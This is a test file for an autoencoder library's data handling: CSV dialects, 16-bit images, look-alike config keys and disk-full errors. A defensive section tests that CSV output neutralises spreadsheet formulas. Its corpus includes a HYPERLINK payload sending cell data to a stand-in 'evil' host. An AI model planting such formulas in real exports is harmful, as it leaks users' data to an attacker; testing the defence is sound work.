"""Issue 21, tables and images: nothing a user has is misread (CSV dialects, 16-bit images, duplicate
names), and no CSV hourglass writes can run as a spreadsheet formula."""

import csv
import json
import os
import subprocess
import sys
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image

import hourglass as hg
from hourglass.cli import main
from hourglass.data import csv_shape, load_dataset
from hourglass.data.tables import neutralise, write_csv
from hourglass.errors import HourglassError

ROOT = Path(__file__).resolve().parents[1]

# ---------------------------------------------------------------------------------------- CSV dialects
# Each file: its bytes, and either the (names, rows) it reads as or a piece of the one-line error it gives.
GOOD = {
    "comma": (b"a,b,c\n1,2,3\n4,5,6\n", ["a", "b", "c"], [[1, 2, 3], [4, 5, 6]]),
    "quoted fields": (b'"a","b,c"\n"1","2"\n3,"4"\n', ["a", "b,c"], [[1, 2], [3, 4]]),
    "quoted line break": (b'a,"b\nc"\n1,2\n', ["a", "b\nc"], [[1, 2]]),
    "BOM": (b"\xef\xbb\xbfa,b\n1,2\n", ["a", "b"], [[1, 2]]),
    "CRLF": (b"a,b\r\n1,2\r\n3,4\r\n", ["a", "b"], [[1, 2], [3, 4]]),
    "trailing empty lines": (b"a,b\n1,2\n\n\n", ["a", "b"], [[1, 2]]),
    "trailing comma everywhere": (b"a,b,\n1,2,\n3,4,\n", ["a", "b"], [[1, 2], [3, 4]]),
    "trailing comma on rows": (b"a,b\n1,2,\n3,4,\n", ["a", "b"], [[1, 2], [3, 4]]),
    "one real column": (b"x\n1.5\n-2\n", ["x"], [[1.5], [-2]]),
    "whole-number names (pandas' 0,1,2)": (b"0,1,2\n1.5,2,3\n", ["0", "1", "2"], [[1.5, 2, 3]]),
}
BAD = {
    "implicit index (header one short)": (b"a,b\n1,2,3\n4,5,6\n", "line 2 has 3 fields, but the header has 2"),
    "long row": (b"a,b,c\n1,2,3\n4,5,6,7\n", "line 3 has 4 fields, but the header has 3"),
    "short row": (b"a,b,c\n1,2,3\n4,5\n", "line 3 has 2 fields, but the header has 3"),
    "short row after CRLF and BOM": (b"\xef\xbb\xbfa,b\r\n1,2\r\n3\r\n", "line 3 has 1 fields, but the header has 2"),
    "semicolon, decimal commas": (b"a;b\n1,5;2,25\n3,5;4,75\n", "looks semicolon-separated"),
    "semicolon, decimal points": (b"a;b;c\n1.5;2;3\n", "looks semicolon-separated"),
    "tab in a .csv": (b"a\tb\n1\t2\n", "looks tab-separated"),
    "pipe": (b"a|b\n1|2\n", "looks pipe-separated"),
    "one column of decimal commas": (b"x\n1,5\n2,5\n", "decimal comma"),
    "duplicate names": (b"a,a,b\n1,2,3\n", "names column 'a' 2 times"),
    "quoted, long row": (b'"a","b"\n1,2\n3,"4",5\n', "line 3 has 3 fields, but the header has 2"),
    "quoted, short row after a quoted break": (b'a,b\n"x\ny",2\n3\n', "line 4 has 1 fields, but the header has 2"),
    "lone CR line ends, short row": (b"a,b\r1,2\r3\r", "line 3 has 1 fields, but the header has 2"),
    "ragged after blank lines": (b"\n\na,b\n\n1,2\n\n3,4,5\n", "line 7 has 3 fields, but the header has 2"),
    "empty": (b"", "the file is empty"),
    "no header (np.savetxt)": (
        b"1.5e+00,2.0e+00\n3.0e+00,4.0e+00\n",
        "holds numbers, not column names: the file seems to have no header line",
    ),
    "no header, signed": (b"-1,2,3\n4,5,6\n", "holds numbers, not column names"),
    "no header, a repeated value": (b"1,1,2\n4,5,6\n", "holds numbers, not column names"),
    "no header, quoted": (b'"0.5","2"\n"3","4"\n', "holds numbers, not column names"),
    "no header after a blank line": (b"\n0.5,1\n2,3\n", "holds numbers, not column names"),
    "pandas' row index (unnamed column)": (b",a,b\n0,1,2\n1,3,4\n", "column 1 has no name in the header"),
    "an unnamed column in the middle": (b"a,,b\n0,1,2\n", "column 2 has no name in the header"),
}


def _write(tmp_path, name, data, suffix=".csv"):
    path = tmp_path / f"{name.replace(' ', '_').replace(',', '')}{suffix}"
    path.write_bytes(data)
    return path


@pytest.fixture(params=["one block", "7-byte blocks"])
def blocks(request, monkeypatch):
    """The shape check reads a file in blocks: tiny ones put a line (and a CR LF) across every boundary."""
    if request.param != "one block":
        monkeypatch.setattr(csv_shape, "_BLOCK", 7)


@pytest.mark.parametrize("case", GOOD)
def test_csv_dialects_read_as_written(tmp_path, case, blocks):
    data, names, rows = GOOD[case]
    path = _write(tmp_path, "good", data)
    for ds in (load_dataset(path), next(iter(hg.data.iter_chunks(path, rows=1)))):
        assert ds.feature_names == names
        np.testing.assert_array_equal(ds.X[:1], np.asarray(rows, np.float32)[:1])
    np.testing.assert_array_equal(load_dataset(path).X, np.asarray(rows, np.float32))


@pytest.mark.parametrize("case", BAD)
def test_misshapen_csv_is_one_clear_error(tmp_path, case, blocks):
    data, message = BAD[case]
    path = _write(tmp_path, "bad", data)
    with pytest.raises(HourglassError, match=message.replace("(", r"\(")) as e:
        load_dataset(path)
    assert "\n" not in str(e.value) and str(path) in str(e.value)
    with pytest.raises(HourglassError, match=message.replace("(", r"\(")):  # streamed (score) as loaded
        list(hg.data.iter_chunks(path, rows=1))


def test_tsv_with_commas_names_the_comma(tmp_path):
    path = _write(tmp_path, "commas", b"a,b\n1,2\n", suffix=".tsv")
    with pytest.raises(HourglassError, match="looks comma-separated; save it tab-separated"):
        load_dataset(path)


def test_ragged_csv_fails_train_and_encode_with_exit_2(tmp_path, capsys):
    good = _write(tmp_path, "train", b"a,b\n" + b"".join(b"%d,%d\n" % (i, 2 * i) for i in range(40)))
    assert main(["train", str(good), "--epochs", "1", "--hidden", "2", "--quiet", "--out", str(tmp_path / "m")]) == 0
    bad = _write(tmp_path, "bad", b"a,b\n1,2,3\n4,5,6\n")
    for argv in (
        ["train", str(bad), "--epochs", "1", "--out", str(tmp_path / "m2")],
        ["encode", str(tmp_path / "m"), str(bad), "-o", str(tmp_path / "c.csv")],
    ):
        capsys.readouterr()
        assert main(argv) == 2
        assert "line 2 has 3 fields, but the header has 2" in capsys.readouterr().err


# ------------------------------------------------------------------------------ spreadsheet formulas
# OWASP's CSV-injection prefixes, each in a column name, a label value and (below) an image's file name.
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULAS = ['=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(path: Path) -> list[str]:
    """Every cell (header included) of a CSV/TSV as a spreadsheet would see it."""
    sep = "\t" if path.suffix == ".tsv" else ","
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f, delimiter=sep) for cell in row]


def _assert_no_formula(path: Path) -> None:
    cells = _cells(path)
    assert cells
    for cell in cells:
        if cell[:1] in PREFIXES:
            float(cell)  # only a plain number such as -1.5 may start with - or +


def test_neutralise_corpus():
    for formula in FORMULAS:
        assert neutralise(formula) == "'" + formula
    for kept in ["-1.5", "+2", "-3e-05", "1e5", ".5", "plain", "a=b", "", 7, -1.0, None]:
        assert neutralise(kept) == kept
    for text in ["-", "--", "-1-1", "+A1", "=", "@", "-inf"]:
        assert neutralise(text) == "'" + text


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_write_csv_keeps_numbers_and_neutralises_text(tmp_path, suffix):
    frame = pd.DataFrame({"=cmd": [-1.5, 2.0], "label": ["=1+1", "-2"], "n": [-3, 4]})
    path = tmp_path / f"t{suffix}"
    write_csv(frame, path, sep="\t" if suffix == ".tsv" else ",")
    back = pd.read_csv(path, sep="\t" if suffix == ".tsv" else ",")
    assert back.columns.tolist() == ["'=cmd", "label", "n"]
    assert back["'=cmd"].tolist() == [-1.5, 2.0] and back["n"].tolist() == [-3, 4]
    assert back["label"].tolist() == ["'=1+1", "-2"]
    assert frame.columns[0] == "=cmd"  # the caller's frame is untouched
    write_csv(pd.DataFrame({"a\rb": ["x\r=1+1", "y\r\nz"]}), path)  # a CR inside is no row break
    assert pd.read_csv(path).to_dict("list") == {"a\nb": ["x\n=1+1", "y\nz"]}


def test_no_cli_csv_holds_a_formula(tmp_path, capsys):
    """Column names and labels that are formulas, through fit-detector, score --explain, encode (to a file
    and to standard output) and reconstruct: no cell of any CSV they write starts a formula."""
    rng = np.random.default_rng(0)
    z = rng.normal(size=(120, 2))
    X = np.column_stack([z[:, 0], z[:, 1], z[:, 0] + z[:, 1], z[:, 0] - z[:, 1], rng.normal(size=120), -z[:, 0]])
    X[-3:] += 8  # some rows to flag and explain
    frame = pd.DataFrame(X, columns=FORMULAS)
    frame["label"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(frame))]
    data = tmp_path / "data.csv"
    frame.to_csv(data, index=False, quoting=csv.QUOTE_NONNUMERIC)  # else pandas leaves the CR unquoted
    det, model = tmp_path / "det", tmp_path / "ae"
    common = ["--label", "label", "--epochs", "3", "--hidden", "4", "--quiet", "--out"]
    assert main(["fit-detector", str(data), *common, str(det)]) == 0
    assert main(["train", str(data), *common, str(model)]) == 0
    outputs = {
        "score": ["score", str(det), str(data), "--label", "label", "--explain", "2", "--top", "3"],
        "encode": ["encode", str(model), str(data), "--label", "label"],
        "reconstruct": ["reconstruct", str(model), str(data), "--label", "label"],
    }
    for name, argv in outputs.items():
        for suffix in (".csv", ".tsv"):
            out = tmp_path / f"{name}{suffix}"
            assert main([*argv, "-o", str(out)]) == 0, name
            _assert_no_formula(out)
    text = _cells(tmp_path / "score.csv")
    assert any(c.startswith("'=HYPERLINK(") for c in text)  # the name is kept, made inert
    capsys.readouterr()
    assert main([*outputs["encode"], "-o", "-"]) == 0
    stdout = tmp_path / "stdout.csv"
    stdout.write_text(capsys.readouterr().out)
    _assert_no_formula(stdout)


def test_image_paths_that_are_formulas_are_neutralised(tmp_path):
    """Files named like formulas at the top (their path is the cell) and in a folder named like one (the label)."""
    root = tmp_path / "imgs"
    (root / "@cmd").mkdir(parents=True)
    for i, name in enumerate(["=1+1", "@SUM(A1)", "-2+3", "+x"] * 3):
        Image.fromarray(np.full((8, 8), 20 * i, np.uint8)).save(root / f"{name} {i}.png")
        Image.fromarray(np.full((8, 8), 10 * i, np.uint8)).save(root / "@cmd" / f"{i}.png")
    model, out = tmp_path / "ae", tmp_path / "codes.csv"
    assert main(["train", str(root), "--epochs", "1", "--hidden", "2", "--quiet", "--out", str(model)]) == 0
    assert main(["encode", str(model), str(root), "-o", str(out)]) == 0
    _assert_no_formula(out)
    cells = _cells(out)
    assert "'@cmd" in cells and "'=1+1 0.png" in cells  # kept, made inert


def test_lasso_csv_neutralises_labels_and_paths():
    """explorer.js's csvField, run by node on a corpus of labels and paths."""
    js = (ROOT / "src/hourglass/explorer/static/explorer.js").read_text()
    start = js.index("  const csvField = ")
    end = js.index("  };\n", start) + len("  };\n")
    corpus = [*FORMULAS, "-1.5", "plain", 'say "hi", =x']
    script = js[start:end] + f"\nprocess.stdout.write(JSON.stringify({json.dumps(corpus)}.map(csvField)));\n"
    try:
        result = subprocess.run(["node", "-e", script], capture_output=True, text=True, timeout=60, check=True)
    except FileNotFoundError:
        pytest.skip("node is not installed")
    fields = json.loads(result.stdout)
    assert fields[: len(FORMULAS)] == [
        f"'{f}" if not any(c in f for c in '",\r\n') else '"' + f"'{f}".replace('"', '""') + '"' for f in FORMULAS
    ]
    assert fields[len(FORMULAS) :] == ["-1.5", "plain", '"say ""hi"", =x"']


# ---------------------------------------------------------------------------------------- 16-bit images
GRADIENT = np.linspace(0, 65535, 64).round().astype(np.uint16).reshape(8, 8)


def _save16(path: Path, values: np.ndarray, mode: str = "I;16") -> None:
    if mode == "I;16B":
        Image.frombytes("I;16B", values.shape[::-1], values.astype(">u2").tobytes()).save(path)
    else:
        Image.fromarray(values.astype(np.uint16)).save(path)


@pytest.mark.parametrize(("name", "mode"), [("g.png", "I;16"), ("g.tif", "I;16"), ("g.tiff", "I;16B")])
def test_16_bit_gradient_keeps_every_level(tmp_path, name, mode):
    _save16(tmp_path / name, GRADIENT, mode)
    X = load_dataset(tmp_path).X
    assert X.dtype == np.uint16 and X.shape == (1, 8, 8)
    np.testing.assert_array_equal(X[0], GRADIENT)  # not 0, 255, 255, ...


def test_16_bit_images_are_resized_at_their_depth(tmp_path):
    _save16(tmp_path / "a.png", GRADIENT)
    _save16(tmp_path / "b.png", GRADIENT)
    _save16(tmp_path / "c.png", np.kron(GRADIENT, np.ones((2, 2), np.uint16)))  # 16x16: resized to 8x8
    X = load_dataset(tmp_path).X
    assert X.dtype == np.uint16 and X.shape == (3, 8, 8)
    assert X[2].max() > 60000 and len(np.unique(X[2])) > 32


@pytest.mark.filterwarnings("ignore:the model is no better")
def test_12_bit_data_in_16_bit_pngs_trains_on_its_own_range(tmp_path):
    rng = np.random.default_rng(0)
    for i in range(24):
        _save16(tmp_path / f"{i:02d}.png", rng.integers(0, 4096, (6, 6)))
    data = load_dataset(tmp_path)
    assert data.X.dtype == np.uint16 and 4000 < data.X.max() < 4096
    model = hg.Autoencoder(hidden=(4,), epochs=1, seed=0).fit(data.X)
    lo, hi = model.scaler_.offset.min(), (model.scaler_.offset + model.scaler_.scale).max()
    assert lo == data.X.min() and hi == data.X.max()  # 0..4095, not 0..255 nor 0..65535


@pytest.mark.parametrize("color", ["auto", "gray", "rgb"])
def test_mixed_8_and_16_bit_folder_is_one_depth(tmp_path, color):
    _save16(tmp_path / "deep.png", GRADIENT)
    Image.fromarray(np.full((8, 8), 255, np.uint8)).save(tmp_path / "white8.png")
    Image.fromarray(np.full((8, 8, 3), [255, 0, 0], np.uint8)).save(tmp_path / "red8.png")
    X = load_dataset(tmp_path, color=color).X
    assert X.dtype == np.uint16
    deep, red, white = X  # sorted by name
    if color == "gray":
        np.testing.assert_array_equal(deep, GRADIENT)
        assert (white == 65535).all() and (red == 19595 * 65535 + 0x8000 >> 16).all()  # Pillow's luma
    else:
        np.testing.assert_array_equal(deep[..., 0], GRADIENT)
        assert (deep[..., 0] == deep[..., 2]).all()
        assert (white == 65535).all() and (red == [65535, 0, 0]).all()


@pytest.mark.filterwarnings("ignore:the model is no better")
def test_a_model_of_16_bit_grey_images_writes_16_bit_pngs(tmp_path):
    rng = np.random.default_rng(0)
    (tmp_path / "in").mkdir()
    for i in range(24):
        _save16(tmp_path / "in" / f"{i:02d}.png", rng.integers(0, 65536, (6, 6)))
    model = tmp_path / "m"
    assert main(["train", str(tmp_path / "in"), "--epochs", "1", "--hidden", "4", "--quiet", "--out", str(model)]) == 0
    assert main(["reconstruct", str(model), str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--quiet"]) == 0
    with Image.open(tmp_path / "out" / "00.png") as image:
        assert image.mode == "I;16"  # was 8-bit: 256 levels of the 65,536 trained on
    levels = np.concatenate([np.asarray(Image.open(f)).ravel() for f in sorted((tmp_path / "out").glob("*.png"))])
    assert len(np.unique(levels)) > 256


def test_png_pixels_stay_8_bit_for_8_bit_ranges_and_colour():
    from hourglass.data.images import to_png_pixels

    assert to_png_pixels(np.full((2, 3, 3), 7.0), 0.0, 255.0).dtype == np.uint8
    assert to_png_pixels(np.full((2, 3, 3, 3), 7.0), 0.0, 65535.0).dtype == np.uint8  # Pillow: no 16-bit RGB
    deep = to_png_pixels(np.array([[[0.0, 1.0, 65535.0]]]), 0.0, 65535.0)
    assert deep.dtype == np.uint16 and deep.tolist() == [[[0, 1, 65535]]]


def test_8_bit_folders_are_unchanged(tmp_path):
    rng = np.random.default_rng(1)
    images = rng.integers(0, 256, (4, 5, 6, 3), dtype=np.uint8)
    for i, a in enumerate(images):
        Image.fromarray(a).save(tmp_path / f"{i}.png")
    rgb, gray = load_dataset(tmp_path).X, load_dataset(tmp_path, color="gray").X
    assert rgb.dtype == gray.dtype == np.uint8
    np.testing.assert_array_equal(rgb, images)
    np.testing.assert_array_equal(gray, [np.asarray(Image.fromarray(a).convert("L")) for a in images])


# ---------------------------------------------------------------------------------------- smaller ones
def test_many_distinct_labels_still_name_the_dots():
    from hourglass.explorer.page import MAX_COLOURED_LABELS, _labels

    names = [f"id-{i}" for i in range(MAX_COLOURED_LABELS + 44)]
    with pytest.warns(UserWarning, match="300 distinct labels: too many to colour"):
        labels = _labels(np.array([*names, None], dtype=object))
    assert labels["kind"] == "text"
    assert [labels["names"][v] for v in labels["values"][:3]] == names[:3]  # kept: tooltips, search, lasso CSV
    few = _labels(np.array(names[:MAX_COLOURED_LABELS]))
    assert few["kind"] == "category"


def _trained_on_a_label_per_row(tmp_path, capsys):
    """A 300-row table whose label column names every row differently, and a model trained on it."""
    rng = np.random.default_rng(0)
    frame = pd.DataFrame(rng.normal(size=(300, 3)), columns=["a", "b", "c"])
    frame["name"] = [f"row-{i}" for i in range(300)]
    data = tmp_path / "t.csv"
    frame.to_csv(data, index=False)
    model = tmp_path / "m"
    assert main(["train", str(data), "--label", "name", "--epochs", "1", "--quiet", "--out", str(model)]) == 0
    capsys.readouterr()
    return data, model


def test_explore_says_when_labels_are_too_many_to_colour(tmp_path, capsys):
    data, model = _trained_on_a_label_per_row(tmp_path, capsys)
    assert main(["explore", str(model), str(data), "--label", "name", "-o", str(tmp_path / "e.html")]) == 0
    err = capsys.readouterr().err
    assert "300 distinct labels: too many to colour the dots by" in err
    assert "row-299" in (tmp_path / "e.html").read_text()
    # a label per row (ids) has no silhouette: evaluate-map says nan, not a traceback
    assert main(["evaluate-map", str(model), str(data), str(data), "--label", "name", "--no-umap"]) == 0
    table = capsys.readouterr().out
    assert "hourglass" in table and "nan" in table


@pytest.mark.slow  # UMAP: numba compiles it for about a minute
def test_evaluate_map_with_umap_says_nan_for_a_label_per_row(tmp_path, capsys):
    pytest.importorskip("umap")
    data, model = _trained_on_a_label_per_row(tmp_path, capsys)
    assert main(["evaluate-map", str(model), str(data), str(data), "--label", "name"]) == 0
    table = capsys.readouterr().out
    assert "hourglass" in table and "UMAP" in table and "nan" in table


@pytest.fixture(scope="module")
def table_model(tmp_path_factory):
    root = tmp_path_factory.mktemp("model")
    rng = np.random.default_rng(0)
    frame = pd.DataFrame(rng.normal(size=(60, 3)), columns=["a", "b", "c"])
    frame.to_csv(root / "t.csv", index=False)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # two epochs: no better than the mean, and not the point here
        hg.Autoencoder(hidden=(4,), epochs=2).fit(frame).save(root / "m")
    return root / "m", root / "t.csv"


@pytest.mark.parametrize("index", ["-1", "-60"])
def test_interpolate_refuses_negative_rows(table_model, tmp_path, capsys, index):
    model, data = table_model
    argv = ["interpolate", str(model), str(data), "--from", index, "--to", "1", "-o", str(tmp_path / "w.npy")]
    assert main(argv) == 2
    assert f"expected an integer of at least 0, got '{index}'" in capsys.readouterr().err
    assert not (tmp_path / "w.npy").exists()


def _edited(model: Path, tmp_path: Path, edit) -> Path:
    copy = tmp_path / "edited"
    copy.mkdir()
    for f in model.iterdir():
        (copy / f.name).write_bytes(f.read_bytes())
    config = json.loads((copy / "config.json").read_text())
    edit(config)
    (copy / "config.json").write_text(json.dumps(config))
    return copy


def test_look_alike_parameter_name_is_refused_by_every_reader(table_model, tmp_path, capsys):
    model, data = table_model

    def rename(config):  # "patience" with a Cyrillic "а"
        config["params"]["p\u0430tience"] = config["params"].pop("patience")

    edited = _edited(model, tmp_path, rename)
    message = "params.'p\u0430tience' is not a known field"
    for argv in (["info", str(edited)], ["encode", str(edited), str(data), "-o", str(tmp_path / "z.csv")]):
        capsys.readouterr()
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert message in err and "non-ASCII" in err and "\\u0430" in err
    with pytest.raises(HourglassError, match=message):
        hg.load(edited)


@pytest.mark.parametrize(
    "section, key",
    [("model.config", "latent_dim"), ("data", "sample_shape"), ("training", "best_epoch")],
)
def test_look_alike_key_in_any_section_is_refused_by_every_reader(table_model, tmp_path, capsys, section, key):
    model, data = table_model

    def rename(config):  # the first "a" or "e" of the key Cyrillic: info read such a field as missing
        node = config
        for part in section.split("."):
            node = node[part]
        node[key.replace("a", "\u0430", 1) if "a" in key else key.replace("e", "\u0435", 1)] = node.pop(key)

    edited = _edited(model, tmp_path, rename)
    message = f"{section}.'"
    for argv in (["info", str(edited)], ["encode", str(edited), str(data), "-o", str(tmp_path / "z.csv")]):
        capsys.readouterr()
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert message in err and "is not a known field" in err and "non-ASCII" in err
    with pytest.raises(HourglassError, match="is not a known field"):
        hg.load(edited)


def test_look_alike_key_in_a_detectors_fitted_section_is_refused_by_encode(tmp_path, capsys):
    from hourglass.anomaly import AnomalyDetector

    frame = pd.DataFrame(np.random.default_rng(1).normal(size=(60, 3)), columns=["a", "b", "c"])
    frame.to_csv(tmp_path / "t.csv", index=False)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        AnomalyDetector(n_members=2, hidden=(4,), epochs=2).fit(frame).save(tmp_path / "d")
    edited = _edited(
        tmp_path / "d", tmp_path, lambda c: c["fitted"].update({"c\u0430libration": c["fitted"].pop("calibration")})
    )
    for argv in (
        ["info", str(edited)],
        ["encode", str(edited), str(tmp_path / "t.csv"), "-o", str(tmp_path / "z.csv")],
    ):
        capsys.readouterr()
        assert main(argv) == 2
        assert "fitted.'c\u0430libration' is not a known field" in capsys.readouterr().err
    assert not (tmp_path / "z.csv").exists()
    with pytest.raises(HourglassError, match="is not a known field"):
        hg.load(edited)


def test_parameter_names_match_the_estimators():
    from hourglass.anomaly import AnomalyDetector
    from hourglass.storage.modelfile import PARAMETERS

    assert PARAMETERS["Autoencoder"] == set(hg.Autoencoder._parameter_specs)
    assert PARAMETERS["AnomalyDetector"] == set(AnomalyDetector._parameter_specs)


@pytest.mark.parametrize("version", [1.0, float("nan"), "1", True, 0, -3, None])
def test_malformed_format_version_is_not_called_newer(table_model, tmp_path, capsys, version):
    model, _ = table_model
    edited = _edited(model, tmp_path, lambda c: c.update(format_version=version))
    with pytest.raises(HourglassError, match="format_version must be a whole number from 1") as e:
        hg.load(edited)
    assert "newer" not in str(e.value)
    assert main(["info", str(edited)]) == 2
    assert "format_version must be a whole number" in capsys.readouterr().err


def test_newer_format_version_still_says_upgrade(table_model, tmp_path):
    model, _ = table_model
    edited = _edited(model, tmp_path, lambda c: c.update(format_version=99))
    with pytest.raises(HourglassError, match="format version 99 is newer than this hourglass reads"):
        hg.load(edited)


def test_info_json_into_a_closed_pipe_says_nothing(table_model):
    model, _ = table_model
    env = {**os.environ, "OMP_NUM_THREADS": "1"}
    for args in (["info", str(model), "--json"], ["info", str(model)]):
        proc = subprocess.Popen(
            [sys.executable, "-m", "hourglass", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
        )
        proc.stdout.close()  # the reader is gone before a byte is written: `| head -c 0`
        err = proc.stderr.read().decode()
        assert proc.wait(timeout=120) != 2
        assert err == "", err


def test_full_disk_names_the_file_and_the_disk(table_model, tmp_path, capsys, monkeypatch):
    """/dev/full fails every write with ENOSPC, through numpy's and pandas' own writers."""
    import contextlib

    from hourglass.data import arrays, tables

    @contextlib.contextmanager
    def full(path):
        yield Path("/dev/full")

    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    monkeypatch.setattr(arrays, "atomic_file", full)
    monkeypatch.setattr(tables, "atomic_file", full)
    model, _ = table_model
    codes = tmp_path / "codes.csv"
    pd.DataFrame({"z1": np.zeros(3000), "z2": np.ones(3000)}).to_csv(codes, index=False)
    for out in ("rows.npy", "rows.csv"):
        capsys.readouterr()
        assert main(["decode", str(model), str(codes), "-o", str(tmp_path / out)]) == 2
        err = capsys.readouterr().err
        assert f"{tmp_path / out}: not written: the disk holding" in err and "is full" in err, err
    from hourglass.anomaly import AnomalyDetector
    from hourglass.cli import score

    monkeypatch.setattr(score, "atomic_file", full)
    table = pd.read_csv(table_model[1])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        AnomalyDetector(hidden=(4,), epochs=1, n_members=1).fit(table).save(tmp_path / "det")
    capsys.readouterr()
    assert main(["score", str(tmp_path / "det"), str(table_model[1]), "-o", str(tmp_path / "s.csv")]) == 2
    assert f"{tmp_path / 's.csv'}: not written: the disk holding" in capsys.readouterr().err
    # numpy's own words for a short write (no errno) are read as a full disk too
    message = arrays.write_failure(tmp_path / "x.npy", OSError("14700 requested and 13280 written"))
    assert message.startswith(f"{tmp_path / 'x.npy'}: not written: the disk holding {tmp_path}")


def test_full_disk_under_standard_output_names_it(table_model, tmp_path):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    from hourglass.anomaly import AnomalyDetector

    model, data = table_model
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        AnomalyDetector(hidden=(4,), epochs=1, n_members=1).fit(pd.read_csv(data)).save(tmp_path / "det")
    for command in (["encode", model], ["score", tmp_path / "det"]):  # write_columns; score's own writer
        with open("/dev/full", "w") as full:  # `hourglass ... -o - > file` on a full disk
            proc = subprocess.run(
                [sys.executable, "-m", "hourglass", *map(str, command), str(data), "-o", "-"],
                stdout=full,
                stderr=subprocess.PIPE,
                text=True,
                timeout=120,
            )
        assert proc.returncode == 2, command
        assert "hourglass: error: standard output: not written (No space left on device)" in proc.stderr, command


def test_dataframe_dates_are_one_clear_error():
    from hourglass.anomaly import AnomalyDetector

    n = 40
    frame = pd.DataFrame({"a": np.arange(n, dtype=float), "when": pd.date_range("2024-01-01", periods=n)})
    for estimator in (hg.Autoencoder(epochs=1), AnomalyDetector(epochs=1)):
        with pytest.raises(HourglassError, match=r"X: column\(s\) that are not numbers: when \(datetime64"):
            estimator.fit(frame)
    model = hg.Autoencoder(hidden=(4,), epochs=1).fit(frame[["a"]].assign(b=frame["a"] * 2))
    with pytest.raises(HourglassError, match="not numbers: b"):
        model.transform(frame[["a"]].assign(b=pd.to_timedelta(frame["a"], "D")))


@pytest.mark.parametrize(
    "column",
    [
        pd.Categorical(["x", "y"] * 20),
        pd.array(["s"] * 40, dtype="string"),
        pd.Series([1, "a"] * 20, dtype=object),
        pd.Series([b"x"] * 40, dtype=object),
        np.full(40, 1j),
    ],
    ids=["category", "string", "mixed object", "bytes", "complex"],
)
def test_dataframe_columns_that_are_not_real_numbers_are_named(column):
    frame = pd.DataFrame({"a": np.arange(40.0), "b": np.ones(40)}).assign(odd=column)
    with pytest.raises(HourglassError, match=r"^X: column\(s\) that are not numbers: odd \(") as e:
        hg.Autoencoder(epochs=1).fit(frame)
    assert "\n" not in str(e.value)  # scikit-learn's complex-number error held the whole frame


def test_dataframe_columns_of_numbers_held_otherwise_are_read():
    from decimal import Decimal

    frame = pd.DataFrame({"a": np.arange(40.0), "n": pd.Categorical([1.5, 2.0] * 20)})
    frame = frame.assign(o=pd.Series([1, 2.5] * 20, dtype=object), d=[Decimal("1.5")] * 40)
    frame = frame.assign(i=pd.array([1, 2] * 20, dtype="Int64"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert hg.Autoencoder(hidden=(2,), epochs=1).fit(frame).n_features_in_ == 5
